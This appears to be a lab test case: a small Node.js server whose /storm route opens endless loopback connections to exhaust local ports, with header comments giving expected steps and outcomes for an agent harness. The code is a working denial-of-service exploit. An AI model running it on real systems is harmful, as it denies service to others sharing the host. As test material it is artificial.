// exploit: opens and closes connections until every port of its loopback waits to be free again, so that the agent finds none to come from
// part: no
// kind: lab
// steps: GET / | GET /storm | GET / | GET /
// outcome: finished cpu-timeout wall-timeout
// exchange: none timed-out not-listening connection-closed
const net = require('node:net')
let made = 0
const storm = (target) => net.connect(target, '127.0.0.1', function () {
  made += 1
  this.end()
}).on('close', () => storm(target)).on('error', () => setTimeout(storm, 1, target))
require('node:http').createServer((req, res) => {
  if (req.url === '/storm') for (let index = 0; index < 50; index += 1) storm(Number(process.env.PORT))
  setTimeout(() => res.end(`made ${made}`), 1000)
}).listen(process.env.PORT)
